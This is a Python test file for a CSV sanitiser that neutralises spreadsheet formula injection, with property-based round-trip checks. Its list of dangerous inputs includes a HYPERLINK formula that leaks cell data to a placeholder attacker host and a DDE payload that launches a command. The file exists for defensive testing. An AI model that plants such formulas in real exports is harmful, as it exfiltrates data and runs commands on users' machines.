"""CSV downloads cannot smuggle spreadsheet formulas: every text cell starting with a
formula trigger is neutralised, everything else round-trips unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from oip.site.csvsafe import FORMULA_TRIGGERS, safe_cell, write_csv


@pytest.mark.parametrize(
    "dangerous",
    [
        '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_are_prefixed(dangerous: str) -> None:
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        ("", ""),
        ("Albania", "Albania"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        (-3, "-3"),
        (2.5, "2.5"),
        (Decimal("-1.50"), "-1.50"),
        (True, "true"),
        (dt.date(2025, 1, 9), "2025-01-09"),
        (dt.datetime(2025, 1, 9, 12, 30, tzinfo=dt.UTC), "2025-01-09T12:30:00+00:00"),
    ],
)
def test_plain_values_are_unchanged(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@given(st.text())
def test_no_text_cell_starts_with_a_trigger_and_the_text_is_kept(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_TRIGGERS)
    assert cell in (text, "'" + text)


@given(st.lists(st.lists(st.text(), min_size=3, max_size=3), max_size=10))
def test_write_csv_round_trips_through_a_csv_reader(rows: list[list[str]]) -> None:
    text = write_csv(rows, ["a", "=b", "c"])
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[0] == ["a", "'=b", "c"]
    assert parsed[1:] == [[safe_cell(c) for c in row] for row in rows]


def test_write_csv_uses_crlf_and_quotes_when_needed() -> None:
    text = write_csv([["ME", 'say "hi", then =1', None]], ["country", "note", "x"])
    assert text == 'country,note,x\r\nME,"say ""hi"", then =1",\r\n'
